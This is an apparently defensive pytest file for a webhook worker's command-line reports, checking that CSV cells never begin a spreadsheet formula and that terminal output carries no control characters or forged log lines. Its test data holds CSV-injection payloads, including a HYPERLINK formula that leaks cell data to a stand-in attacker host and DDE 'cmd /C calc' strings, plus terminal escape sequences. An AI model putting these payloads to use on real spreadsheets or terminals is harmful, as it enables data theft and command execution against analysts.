"""The command line prints webhook strings as data: no spreadsheet formula, no terminal escape.

A signed body decides an event type, a verification status or strategy and the ids; the
CSV an analyst opens in a spreadsheet and the lines an operator reads in a terminal carry
them. Each reproduction stores such strings the way the endpoint would.
"""

from __future__ import annotations

import csv
import io
import re

import psycopg
import pytest
from click.testing import CliRunner

from tests.support.bodies import fixture_body
from tests.support.crafted import apply, moment, phone, snapshot
from tests.worker.mirror.helpers import put
from worker.cli.main import main

FORMULAS = (
    '=HYPERLINK("http://attacker.invalid/?"&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x9b31m\u202e"
# C0 controls, DEL, C1 controls, the bidirectional overrides: what a terminal acts on.
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def run(database_url: str, *args: str) -> str:
    result = CliRunner().invoke(main, list(args), env={"DATABASE_URL": database_url})
    assert result.exit_code == 0, result.output
    return result.output


def test_report_csv_cells_never_start_a_formula(database_url: str) -> None:
    with psycopg.connect(database_url) as conn:
        for i, formula in enumerate(FORMULAS):
            entry = phone(f"idn_f{i}", f"+1202555010{i}", status=formula, strategy=formula)
            apply(conn, snapshot(f"user_f{i}", moment(1 + i), [entry]))
    for name in ("verification_status", "phone_numbers_as_of"):
        args = ["report", name, "--format", "csv"]
        if name == "phone_numbers_as_of":
            args += ["--as-of", moment(28).isoformat()]
        rows = list(csv.reader(io.StringIO(run(database_url, *args))))
        cells = [cell for row in rows[1:] for cell in row]
        assert f"'{FORMULAS[0]}" in cells  # the value is there, as text
        for cell in cells:
            # A signed number alone (a masked phone number) runs nothing.
            if not re.fullmatch(r"[+-][0-9 .,•]*", cell):
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_report_keeps_numbers_numbers(database_url: str) -> None:
    with psycopg.connect(database_url) as conn:
        apply(conn, snapshot("user_n", moment(1), [phone("idn_n", "+12025550101")]))
    rows = list(
        csv.reader(io.StringIO(run(database_url, "report", "phone_regions", "--format", "csv")))
    )
    header, first = rows[0], rows[1]
    assert first[header.index("phone_numbers")] == "1"


def test_status_prints_an_event_type_without_its_control_characters(database_url: str) -> None:
    body = fixture_body("session.created__ignored")
    body["type"] = f"{ESCAPES}session.created\n12:00:00 forged"
    with psycopg.connect(database_url) as conn:
        put(conn, body, "msg_escapes")
    for args in (("status",), ("status", "--json")):
        out = run(database_url, *args)
        assert "session.created" in out
        assert not RAW_CONTROL.search(out), repr(out)
        assert "\n12:00:00 forged" not in out


@pytest.mark.parametrize("fmt", ["table", "csv"])
def test_report_prints_no_terminal_escape_from_a_value(database_url: str, fmt: str) -> None:
    with psycopg.connect(database_url) as conn:
        entry = phone("idn_e", "+12025550101", status=f"{ESCAPES}verified")
        apply(conn, snapshot("user_e", moment(1), [entry]))
    out = run(database_url, "report", "verification_status", "--format", fmt)
    assert "verified" in out
    assert not RAW_CONTROL.search(out), repr(out)
